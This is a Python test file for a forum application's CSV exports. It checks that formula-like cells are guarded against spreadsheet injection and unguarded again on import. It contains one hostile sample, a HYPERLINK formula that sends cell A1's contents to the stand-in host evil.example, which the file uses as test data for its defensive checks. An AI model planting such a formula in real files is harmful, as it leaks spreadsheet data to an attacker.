"""CSV exports open safely in a spreadsheet: formula-like cells are guarded, and our own import drops the guard."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from dataclasses import replace

import pytest

from forum.domain import Attendee
from forum.services.csv_cells import guard, unguard
from forum.services.exports.tables import schedule_csv
from forum.services.signin.invitations import invitations_csv
from forum.store import EventStore
from forum.store.audit import AuditLog
from tests.factories import tiny_instance

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("text", ["=1+1", "+33 6", "-2", "@SUM(A1)", "\tx", "\rx", "'=x", "''-x"])
def test_guard_formula_like_cell_is_text_and_unguard_gives_it_back(text: str) -> None:
    guarded = guard(text)
    assert guarded == "'" + text and unguard(guarded) == text


@pytest.mark.parametrize("text", ["Ada", "", "'plain", "a=b", "O'Neil", "2026-03-24T09:00/2026-03-24T18:00"])
def test_guard_ordinary_cell_unchanged_and_unguard_keeps_it(text: str) -> None:
    assert guard(text) == text and unguard(text) == text


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _evil_event(store: EventStore) -> None:
    inst = tiny_instance()
    people = (replace(inst.attendees[0], name=EVIL, organization="+HBO"), *inst.attendees[1:])
    store.import_instance(replace(inst, attendees=people))


def test_schedule_csv_guards_names_and_companies(store: EventStore) -> None:
    _evil_event(store)
    rows = _cells(schedule_csv(store.client, "tiny"))
    assert rows and all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert "'" + EVIL in rows[1] and "'+HBO" in rows[1]


def test_links_csv_guards_names_and_is_audited(store: EventStore) -> None:
    _evil_event(store)
    rows = _cells(invitations_csv(store.client, "secret", "https://forum.example.org", "tiny", "o1"))
    assert ["a1", "'" + EVIL] == rows[1][:2]
    entry = AuditLog(store.client).latest("tiny", 1)[0]
    assert (entry["who"], entry["action"], entry["detail"]) == ("o1", "sign-in links", "3 links (CSV)")


def test_export_attendees_command_guards_cells(redis_url: str, store: EventStore) -> None:
    _evil_event(store)
    store.entities("tiny", Attendee).put(Attendee("x9", "@x9", "-Films", "producer"))
    env = {k: v for k, v in os.environ.items() if not k.startswith("FORUM_")}
    env["FORUM_REDIS_URL"] = redis_url
    done = subprocess.run([sys.executable, "-m", "forum", "export-attendees", "tiny"], env=env,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    rows = {r[0]: r for r in _cells(done.stdout)}
    assert rows["a1"][1:3] == ["'" + EVIL, "'+HBO"] and rows["x9"][1:3] == ["'@x9", "'-Films"]
